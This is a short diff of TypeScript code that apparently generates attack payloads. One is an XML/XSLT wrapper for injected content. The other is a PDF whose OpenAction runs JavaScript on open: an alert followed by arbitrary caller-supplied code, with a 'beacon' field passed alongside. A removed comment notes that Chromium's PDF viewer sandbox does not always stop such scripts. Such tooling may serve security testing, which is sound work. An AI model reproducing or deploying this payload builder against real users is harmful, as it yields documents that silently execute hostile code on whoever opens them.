@@ -32,15 +32,8 @@ const transformed = (mark: Mark) => {
     + `<!ATTLIST xsl:stylesheet id ID #REQUIRED>]><x>${inner}</x>`
 }
 
-/**
- * What the script of a PDF shows in Chromium's viewer. The viewer is a process of its own, without
- * the rights of any origin; the sandbox of the policy stops it usually, but not on a busy machine.
- */
-export const viewerDialog = "the viewer of PDF"
-
 const pdf = ({ beacon, code }: Mark) =>
-  `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(`
-  + `app.alert\\("${viewerDialog}"\\);`
+  `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);`
   + `${
     code.replaceAll(/[()]/g, "\\$&")
   })>>>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj`
